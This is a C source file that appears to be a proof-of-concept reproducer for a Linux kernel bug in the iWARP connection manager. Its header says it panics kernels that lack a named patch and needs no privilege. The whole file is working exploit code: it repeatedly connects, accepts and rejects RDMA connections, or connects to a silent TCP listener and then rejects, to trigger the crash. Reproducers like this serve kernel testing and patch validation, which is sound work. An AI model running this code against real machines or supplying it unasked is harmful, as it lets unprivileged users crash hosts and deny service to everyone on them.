// SPDX-License-Identifier: GPL-2.0 OR BSD-3-Clause
/*
 * Panics a kernel without 0001-iwcm-pending-downcall.patch. Needs an iWARP device on the
 * interface that has ADDRESS, and no privilege.
 *
 *	cc -o panic iwcm-pending-downcall.c -lrdmacm -libverbs
 *	./panic accept ADDRESS		accept, then reject; until it happens
 *	./panic connect ADDRESS		connect to a silent peer, reject, destroy
 */
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <rdma/rdma_cma.h>

#define PORT	7471

static struct rdma_event_channel *events;
static struct sockaddr_in address = { .sin_family = AF_INET };
static struct rdma_conn_param param = { .retry_count = 7 };

static void check(int ret, const char *what)
{
	if (ret) {
		perror(what);
		exit(1);
	}
}

/* Other events are of connections that are over. */
static struct rdma_cm_id *wait_for(enum rdma_cm_event_type type)
{
	enum rdma_cm_event_type seen;
	struct rdma_cm_event *ev;
	struct rdma_cm_id *id;

	do {
		check(rdma_get_cm_event(events, &ev), "rdma_get_cm_event");
		seen = ev->event;
		id = ev->id;
		rdma_ack_cm_event(ev);
	} while (seen != type);
	return id;
}

static void make_qp(struct rdma_cm_id *id)
{
	struct ibv_qp_init_attr attr = {
		.qp_type = IBV_QPT_RC,
		.cap = { .max_send_wr = 1, .max_recv_wr = 1, .max_send_sge = 1, .max_recv_sge = 1 },
	};

	check(rdma_create_qp(id, NULL, &attr), "rdma_create_qp");
}

static struct rdma_cm_id *call(void)
{
	struct rdma_cm_id *id;

	check(rdma_create_id(events, &id, NULL, RDMA_PS_TCP), "rdma_create_id");
	check(rdma_resolve_addr(id, NULL, (struct sockaddr *)&address, 2000), "resolve_addr");
	wait_for(RDMA_CM_EVENT_ADDR_RESOLVED);
	check(rdma_resolve_route(id, 2000), "rdma_resolve_route");
	wait_for(RDMA_CM_EVENT_ROUTE_RESOLVED);
	make_qp(id);
	check(rdma_connect(id, &param), "rdma_connect");
	return id;
}

static void end(struct rdma_cm_id *id)
{
	rdma_destroy_qp(id);
	rdma_destroy_id(id);
}

static void accept_and_reject(void)
{
	struct rdma_cm_id *listener, *caller, *called;

	check(rdma_create_id(events, &listener, NULL, RDMA_PS_TCP), "rdma_create_id");
	check(rdma_bind_addr(listener, (struct sockaddr *)&address), "rdma_bind_addr");
	check(rdma_listen(listener, 8), "rdma_listen");
	for (;;) {
		caller = call();
		called = wait_for(RDMA_CM_EVENT_CONNECT_REQUEST);
		make_qp(called);
		check(rdma_accept(called, &param), "rdma_accept");
		rdma_reject(called, NULL, 0);
		end(called);
		end(caller);
	}
}

/* TCP connects; nobody reads the Request. A queue pair that goes would end the connect. */
static void connect_and_reject(void)
{
	int silent = socket(AF_INET, SOCK_STREAM, 0), on = 1;
	struct rdma_cm_id *id;

	setsockopt(silent, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	check(bind(silent, (struct sockaddr *)&address, sizeof(address)), "bind");
	check(listen(silent, 8), "listen");
	id = call();
	rdma_reject(id, NULL, 0);
	rdma_destroy_id(id);
}

int main(int argc, char **argv)
{
	if (argc != 3 || !inet_aton(argv[2], &address.sin_addr)) {
		fputs("usage: panic accept|connect ADDRESS\n", stderr);
		return 2;
	}
	address.sin_port = htons(PORT);
	events = rdma_create_event_channel();
	check(!events, "rdma_create_event_channel");
	if (strcmp(argv[1], "accept"))
		connect_and_reject();
	else
		accept_and_reject();
	puts("this kernel did not panic");
	return 0;
}
